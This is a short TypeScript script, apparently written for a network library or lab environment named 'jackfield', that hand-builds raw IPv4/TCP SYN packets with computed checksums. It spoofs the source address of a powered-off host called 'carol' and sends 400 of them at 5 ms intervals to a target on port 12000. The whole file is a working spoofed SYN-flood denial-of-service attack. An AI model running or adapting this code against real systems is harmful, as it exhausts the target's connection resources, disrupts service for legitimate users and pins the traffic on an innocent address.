// A SYN every 5 ms, in the name of carol, who is switched off: whoever answers it is answered by nobody.
import { AF_INET, IPPROTO_RAW, SOCK_RAW, Socket } from 'jackfield'
import { os } from 'jackfield/os'

const TARGET = [10, 0, 2, 2]
const CAROL = [10, 0, 21, 2]
const socket = new Socket(os, AF_INET, SOCK_RAW, IPPROTO_RAW)

function checksum(octets: number[]): number {
  let sum = 0
  for (let i = 0; i < octets.length; i += 2) sum += ((octets[i] ?? 0) << 8) | (octets[i + 1] ?? 0)
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16)
  return ~sum & 0xffff
}

for (let i = 0; i < 400; i++) {
  const port = 1024 + i
  const segment = [
    port >> 8,
    port & 255,
    12000 >> 8,
    12000 & 255,
    0,
    0,
    0,
    i & 255,
    0,
    0,
    0,
    0,
    0x50,
    0x02,
    0xff,
    0xff,
    0,
    0,
    0,
    0,
  ]
  const sum = checksum([...CAROL, ...TARGET, 0, 6, 0, segment.length, ...segment])
  segment[16] = sum >> 8
  segment[17] = sum & 255
  const header = [0x45, 0, 0, 40, i >> 8, i & 255, 0, 0, 64, 6, 0, 0, ...CAROL, ...TARGET]
  await socket.sendto(new Uint8Array([...header, ...segment]), { address: TARGET.join('.'), port: 0 })
  await new Promise((done) => setTimeout(done, 5))
}
